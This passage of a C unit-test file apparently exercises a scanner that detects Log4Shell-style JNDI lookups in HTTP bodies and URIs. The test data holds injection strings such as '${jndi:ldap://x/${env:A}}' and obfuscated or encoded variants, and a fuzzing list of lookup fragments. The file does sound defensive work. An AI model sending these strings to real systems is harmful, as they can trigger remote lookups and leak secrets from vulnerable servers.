	struct bytes field = bytes_of_text(h->field);

	for (size_t cut = 0; cut <= field.left; cut++) {
		struct window w = {0};

		caught.count = 0;
		window_add(&w, at, bytes_head(field, cut));
		window_scan(&w, at, false, "body", &in, &sink, APP_HTTP);
		window_add(&w, at, bytes_from(field, cut));
		window_scan(&w, at, true, "body", &in, &sink, APP_HTTP);
		ck_assert_msg(caught.count == 1, "%u reports, cut at %zu: %s", caught.count, cut, h->field);
		expect_text(&caught.last[0], TEXT_JNDI_HOST, h->host, h->field);
	}
}
END_TEST

START_TEST(eight_kib_are_read_and_no_more)
{
	static char field[20000];

	memset(field, 'x', sizeof(field));
	memcpy(field + 8192 - 16, "${jndi:dns://ab}", 16);
	ck_assert_uint_eq(scan_named(bytes_of(field, sizeof(field)), "body"), 1);
	expect_text(&caught.last[0], TEXT_JNDI_HOST, "ab", "at the end");
	memset(field, 'x', sizeof(field));
	memcpy(field + 8192, "${jndi:dns://ab}", 16);
	ck_assert_uint_eq(scan_named(bytes_of(field, sizeof(field)), "body"), 0);
}
END_TEST

START_TEST(long_parts_are_cut_and_flagged_and_the_record_stays_valid)
{
	static char field[8192];
	const struct observation *o = &caught.last[0];

	snprintf(field, sizeof(field), "${jndi:%01000d://%01000d/%01000d}", 1, 2, 3);
	ck_assert_uint_eq(scan(field), 1);
	ck_assert(o->flags8 & OBS_FLAG_TRUNCATED);
	ck_assert_uint_le(o->size_bytes, OBSERVATION_BYTES);
	ck_assert_uint_gt(observation_text(o, TEXT_JNDI_RAW).left, 150);
}
END_TEST

START_TEST(a_look_up_cut_at_any_byte_is_no_accident)
{
	for (size_t i = 0; i < COUNT_OF(hidden); i++)
		for (size_t n = 0; n < strlen(hidden[i].field); n++)
			scan_named(bytes_of(hidden[i].field, n), "uri");
}
END_TEST

START_TEST(random_mixtures_of_the_pieces_end_and_stay_inside)
{
	static const char *const pieces[] = {
	"${", "}", ":", ":-", "jndi", "jndi:", "lower:", "upper:", "date:", "'", "base64:", "$", "{", "%24", "%7b",
	"%25", "\\u0024", "\\x7b", "\\", "&", "&#36;", "&lbrace;", "&amp;", "\xc4\xb1", "ldap://", "a", "-",
	"SHtq", "%", "\xef\xac\x81", "[", "]", "1389",
};
	static char field[9000];
	unsigned seed = 1;

	for (unsigned run = 0; run < 4000; run++) {
		size_t at = 0, want = run % 50 == 0 ? 8300 : 120;

		while (at < want) {
			seed = seed * 1103515245 + 12345;
			at += (size_t)snprintf(field + at, sizeof(field) - at, "%s",
					       pieces[(seed >> 16) % COUNT_OF(pieces)]);
		}
		scan_named(bytes_of(field, at), "uri");
	}
}
END_TEST

START_TEST(the_decoder_alone_gives_the_text_and_the_rounds_it_took)
{
	char out[256];
	unsigned depth = 0;
	size_t n = jndi_resolve(bytes_of_text("a %24{${::-j}ndi:ldap://x/${env:A}} b"), out, sizeof(out), &depth);

	ck_assert_uint_eq(n, strlen("a ${jndi:ldap://x/${env:A}} b"));
	ck_assert_int_eq(memcmp(out, "a ${jndi:ldap://x/${env:A}} b", n), 0);
	ck_assert_uint_ge(depth, 2);
	ck_assert_uint_eq(jndi_resolve(bytes_of_text("${lower:ABC}${upper:d}${x:-y}${z}"), out, sizeof(out), &depth),
			  9);
	ck_assert_int_eq(memcmp(out, "abcDy${z}", 9), 0);
	ck_assert_uint_eq(jndi_resolve(bytes_of_text("abcdef"), out, 3, &depth), 3);
	ck_assert_uint_eq(jndi_resolve(bytes_of_text(""), out, sizeof(out), &depth), 0);
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("jndi");
	TCase *tcase = tcase_create("jndi");
	SRunner *runner;
	int failed;

	tcase_add_loop_test(tcase, every_way_of_writing_a_look_up_in_clear_is_found_with_its_target, 0,
			    COUNT_OF(in_clear));
	tcase_add_loop_test(tcase, every_nested_or_encoded_look_up_is_found_with_its_target, 0, COUNT_OF(hidden));
	tcase_add_loop_test(tcase, look_alikes_are_left_alone, 0, COUNT_OF(benign));
	tcase_add_test(tcase, what_was_nested_or_encoded_is_flagged_and_its_depth_counted);
	tcase_add_test(tcase, raw_is_the_look_up_as_it_stood_and_decoded_what_log4j_sees);
	tcase_add_test(tcase, a_look_up_used_as_a_letter_of_another_does_not_hide_it);
	tcase_add_test(tcase, basic_credentials_are_decoded_and_named);
	tcase_add_test(tcase, at_most_four_look_ups_of_a_field_are_reported);
	tcase_add_test(tcase, nesting_deeper_than_the_stack_is_resolved_in_further_rounds);
	tcase_add_test(tcase, a_look_up_that_takes_more_rounds_than_are_made_is_reported_as_it_stands);
	tcase_add_test(tcase, a_field_that_costs_too_much_to_resolve_is_reported_as_it_stands);
	tcase_add_loop_test(tcase, work_is_bounded_and_linear_in_the_field, 0, 29);
	tcase_add_test(tcase, escapes_made_of_escapes_pass_the_quick_look);
	tcase_add_loop_test(tcase, the_quick_look_sees_a_sign_at_any_place_in_any_length, 0, 6);
	tcase_add_loop_test(tcase, a_look_up_that_arrives_in_pieces_is_reported_once_and_whole, 0, COUNT_OF(hidden));
	tcase_add_test(tcase, eight_kib_are_read_and_no_more);
	tcase_add_test(tcase, long_parts_are_cut_and_flagged_and_the_record_stays_valid);
	tcase_add_test(tcase, a_look_up_cut_at_any_byte_is_no_accident);
	tcase_add_test(tcase, random_mixtures_of_the_pieces_end_and_stay_inside);
	tcase_add_test(tcase, the_decoder_alone_gives_the_text_and_the_rounds_it_took);
	suite_add_tcase(suite, tcase);
	runner = srunner_create(suite);
	srunner_run_all(runner, CK_ENV);
	failed = srunner_ntests_failed(runner);
	srunner_free(runner);
	return failed != 0;
}
